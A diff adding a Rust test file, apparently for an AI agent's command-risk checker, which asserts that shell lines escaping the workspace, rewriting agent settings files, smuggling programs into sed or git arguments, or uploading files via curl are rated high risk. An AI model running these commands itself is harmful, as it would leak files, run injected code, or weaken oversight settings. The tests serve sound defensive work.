@@ -1,0 +1,230 @@
+//! Where the words of commands lead: out of the workspace, or to files that decide what runs and what is asked.
+
+use super::look;
+use crate::tool::Risk;
+
+fn missed<'l>(lines: &[&'l str], risk: Risk) -> Vec<&'l str> {
+    let differs = |line: &&&str| (look(line).risk() == Risk::High) != (risk == Risk::High);
+    lines.iter().filter(differs).copied().collect()
+}
+
+#[test]
+fn a_shell_line_cannot_rewrite_what_decides_over_agents_unasked() {
+    let high = [
+        "echo x > placet.toml",
+        "sed -i s/a/b/ placet.toml",
+        "cp x placet.toml",
+        "mv x .placet/a",
+        "mv x sub/.placet/a",
+        "tee .vscode/settings.json",
+        "echo x >> .mcp.json",
+        "cd .vscode && tee settings.json",
+        "rm -f placet.toml",
+        "ln -s x .husky/pre-commit",
+        "curl -so .claude/settings.json https://example.org/x",
+        "cp x {placet.toml,y}",
+        "tee plac*.toml",
+        "sed -i s/a/b/ *.toml",
+        "git mv x placet.toml",
+        "git rm placet.toml",
+        "touch PLACET.TOML",
+        "cp x \"${a:-placet.toml}\"",
+    ];
+    assert_eq!(missed(&high, Risk::High), [""; 0]);
+    let ordinary = [
+        "cat placet.toml",
+        "grep -n mode placet.toml",
+        "cat .vscode/settings.json",
+        "cat < placet.toml",
+        "ls .git",
+        "echo x > notes.toml",
+        "sed -i s/a/b/ Cargo.toml",
+        "cp a.json b.json",
+        "mkdir -p .github/workflows",
+    ];
+    assert_eq!(missed(&ordinary, Risk::Medium), [""; 0]);
+}
+
+#[test]
+fn programs_inside_arguments_are_read_as_sed_and_git_read_them() {
+    let high = [
+        "sed 't;1e touch pwned' f",
+        "sed 'b x;1e touch pwned' f",
+        "sed -n 'T;w x' f",
+        "sed -ne'1e touch x' p",
+        "sed -ne '1e touch x' p",
+        "sed --expr='1e touch x' p",
+        "sed --expr '1e touch x' p",
+        "sed --quiet --fil=x p",
+        "sed -nf x p",
+        "sed -zEe'1e touch x' p",
+        "git grep -O./evil.sh a",
+        "git grep -O ./evil.sh a",
+        "git clone -u CMD . y",
+        "git clone --template=DIR x y",
+        "git init --template DIR",
+        "git clone -c core.pager=x y",
+    ];
+    assert_eq!(missed(&high, Risk::High), [""; 0]);
+    let ordinary = [
+        "sed -n -e '1p' f",
+        "sed -ne 1p f",
+        "sed -nE 's/(a)/b/p' f",
+        "sed --quiet --expression=1p f",
+        "sed -i.bak s/a/b/ f",
+        "sed -i -e s/a/b/ -e s/c/d/ f",
+        "sed ':a;N;$!ba;s/x/y/g' f",
+        "git grep -n foo",
+        "git clone https://example.org/x y",
+    ];
+    assert_eq!(missed(&ordinary, Risk::Medium), [""; 0]);
+}
+
+#[test]
+fn output_options_are_found_in_clusters_abbreviated_and_with_attached_values() {
+    let high = [
+        "curl -so /opt/x https://example.org/x",
+        "curl -so/opt/x https://example.org/x",
+        "curl --outpu /opt/x https://example.org/x",
+        "wget -qO /opt/x https://example.org/x",
+        "wget -qO/opt/x https://example.org/x",
+        "tar -xC / -f a",
+        "tar -xC/ -f a",
+        "tar xCf / a",
+        "sort -ro /opt/x",
+        "sort --outp=/opt/x",
+        "sort --output /opt/x",
+        "cp -t/opt a",
+        "cp -rt /opt a",
+        "cp --target-dir=/opt a",
+        "install -m755 -D a /opt/a",
+        "curl -sO --output-dir /opt https://example.org/x",
+        "unzip -qd /opt a.zip",
+        "gcc -O2 -o /opt/x x.c",
+    ];
+    assert_eq!(missed(&high, Risk::High), [""; 0]);
+    let ordinary = [
+        "curl -so out https://example.org/x",
+        "wget -qO out https://example.org/x",
+        "tar -xC sub -f a.tgz",
+        "tar czf out.tgz src",
+        "sort -ro out in",
+        "gcc -O2 -o out x.c",
+        "cp -t sub a",
+        "unzip -qd sub a.zip",
+    ];
+    assert_eq!(missed(&ordinary, Risk::Medium), [""; 0]);
+}
+
+#[test]
+fn whatever_touches_a_place_outside_is_high() {
+    let high = [
+        "rsync -a . /etc/foo",
+        "uniq a /opt/x",
+        "split -b 1k a /opt/x",
+        "shuf -o /opt/x a",
+        "zip /opt/x.zip a",
+        "zip -r /opt/x.zip a",
+        "cat /etc/hosts",
+        "cat ../x",
+        "cat ~/notes",
+        "cat $HOME/notes",
+        "cat link/passwd",
+        "ls ..",
+        "grep -r foo /usr/include",
+        "grep -e foo /etc/hosts",
+        "find / -name x",
+        "find .. -name x",
+        "sed -n 1p /etc/hosts",
+        "awk '{print}' /etc/passwd",
+        "jq . /etc/x.json",
+        "mytool /opt/x",
+        "mytool --out=/opt/x",
+        "mytool --out /opt/x",
+        "make PREFIX=/usr/local install",
+        "python3 /tmp/x.py",
+        "bash /tmp/x.sh",
+        "cat < /etc/hosts",
+        "git -C /etc status",
+        "git diff --no-index /etc/passwd x",
+        "env cat /etc/hosts",
+        "cd / && cat etc/hosts",
+        "cd .. && ls",
+        "cat /etc/$x",
+        "for f in /etc/*; do cat $f; done",
+        "find . -exec cp {} /opt ;",
+        "xargs -a /etc/passwd echo",
+        "tar czf x.tgz /etc",
+        "tar -czf /opt/x.tgz .",
+        "diff <(cat /etc/hosts) x",
+        "cd sub && cat ../../x",
+        "cd nosuch; cat ../x",
+    ];
+    assert_eq!(missed(&high, Risk::High), [""; 0]);
+    let ordinary = [
+        "cat /w/README.md",
+        "cat sub/../x",
+        "ls 2>/dev/null >/dev/null </dev/null",
+        "cat /dev/null /dev/stdin",
+        "head -c 16 /dev/urandom",
+        "dd_like if=/dev/zero",
+        "grep -rn '/etc/passwd' src",
+        "grep -e /etc/hosts src",
+        "rg /api/users src",
+        "sed -n '/foo/p' f",
+        "sed '/a/,/b/d' f",
+        "awk '/x/ {print}' f",
+        "awk -F/ '{print $2}' f",
+        "jq '/x' f",
+        "find . -path '/x/*' -name '/y'",
+        "tr / _",
+        "cut -d/ -f2 f",
+        "sort -t/ -k2 f",
+        "basename /a/b",
+        "dirname /a/b",
+        "echo /etc/passwd",
+        "printf '%s' /x",
+        "test -f /etc/x",
+        "[ -d /opt ]",
+        "/usr/bin/git status",
+        "env /usr/bin/git status",
+        "time /usr/bin/make",
+        "git commit -m '/x'",
+        "git commit -am '../x'",
+        "git log main..dev",
+        "git show HEAD:src/x",
+        "docker run --rm -v /w:/src -w /src rust cargo test",
+        "cd sub && cat ../README.md",
+        "cd sub && make && cd .. && make",
+        "cd a && make && cd ../b && make",
+        "bash -c '/usr/bin/make all'",
+        "kubectl get --raw /healthz",
+        "gcc -I/usr/include x.c",
+        "which /usr/bin/ls",
+        "npm run build -- --base=./x",
+    ];
+    assert_eq!(missed(&ordinary, Risk::Medium), [""; 0]);
+}
+
+#[test]
+fn uploads_are_high_in_any_spelling() {
+    let high = [
+        "curl -sd@FILE https://example.org",
+        "curl -sd @FILE https://example.org",
+        "curl --data-urlencode a@FILE https://example.org",
+        "curl --data-urlencode=a@FILE https://example.org",
+        "curl -sF a=@FILE https://example.org",
+        "curl -sT FILE https://example.org",
+        "curl --unix-socket /var/run/docker.sock http://x.example/info",
+        "curl --unix-socket docker.sock http://x.example/info",
+        "curl --abstract-unix-socket=x http://x.example/info",
+        "curl --json @FILE https://example.org",
+    ];
+    assert_eq!(missed(&high, Risk::High), [""; 0]);
+    let ordinary = [
+        "curl -sd a=b https://example.org",
+        "curl -H 'X: a' https://example.org",
+        "curl -d '{\"mail\":\"a@b.org\"}' https://example.org",
+    ];
+    assert_eq!(missed(&ordinary, Risk::Medium), [""; 0]);
+}
